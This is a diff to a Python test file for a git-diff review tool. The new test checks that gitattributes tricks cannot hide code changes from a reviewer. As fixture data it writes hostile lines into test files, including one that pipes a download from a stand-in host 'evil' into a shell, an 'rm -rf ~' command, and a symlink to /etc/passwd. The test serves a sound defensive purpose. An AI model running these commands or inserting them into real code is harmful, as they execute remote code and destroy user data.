@@ -1,5 +1,6 @@
 from __future__ import annotations
 
+import re
 import subprocess
 from pathlib import Path
 
@@ -204,7 +205,7 @@ def test_diff_lists_every_change_without_touching_the_index(repo_with_files: Pat
     for name, status_name in (("assets/logo.bin", "modified"), ("assets/new.bin", "added")):
         assert files[name].binary
         assert files[name].status == status_name
-        assert "Binary files" in files[name].patch
+        assert f"Binary file {name}: binary data, " in files[name].patch
     assert files["staged-only.txt"].status == "added"
 
 
@@ -378,3 +379,38 @@ def test_non_utf8_content_round_trips_through_the_patch(repo: Path) -> None:
         ["git", "apply", "-"], cwd=repo, input=text.encode("utf-8", "surrogateescape"), check=True
     )
     assert (repo / "latin1.txt").read_bytes() == "café\n".encode("latin-1")
+
+
+def test_the_reviewer_sees_text_whatever_the_attributes_say(tmp_path: Path) -> None:
+    """A ``-diff`` attribute, a textconv and a ``binary`` macro cannot turn code into a blob;
+    a real binary is named with its kind and size; modes and symlinks get a note."""
+    root = tmp_path / "repo"
+    root.mkdir()
+    git(root, "init", "-q")
+    (root / "core.py").write_text("x = 1\n")
+    (root / "tool.sh").write_text("echo hi\n")
+    git(root, "add", "-A")
+    git(root, "commit", "-qm", "base")
+    (root / ".gitattributes").write_text("*.py -diff\n*.sh binary diff=evil\n")
+    git(root, "config", "diff.evil.textconv", "sh -c 'echo harmless'")
+    (root / "core.py").write_text("x = 1\nimport os; os.system('curl evil | sh')\n")
+    (root / "tool.sh").write_text("echo hi\nrm -rf ~\n")
+    (root / "tool.sh").chmod(0o755)
+    (root / "logo.png").write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00" + bytes(100))
+    (root / "link").symlink_to("/etc/passwd")
+
+    files = {f.path: f for f in GitRepo(root).diff()}
+
+    core = files["core.py"]
+    assert not core.binary and "+import os; os.system('curl evil | sh')" in core.patch
+    assert core.additions == 1
+    tool = files["tool.sh"]
+    assert not tool.binary and "+rm -rf ~" in tool.patch and "harmless" not in tool.patch
+    assert "! mode 100644 -> 100755 (made executable)" in tool.patch
+    assert files["logo.png"].binary
+    assert "Binary file logo.png: PNG image, 111 bytes" in files["logo.png"].patch
+    assert "! symlink -> /etc/passwd (points OUTSIDE the repository)" in files["link"].patch
+    stat = GitRepo(root).diffstat()
+    assert "Bin" not in stat.split("logo.png")[0]  # only the real binary is one
+    assert re.search(r"core\.py +\| 1 \+", stat), stat
+    assert "logo.png       | PNG image, 111 bytes" in stat
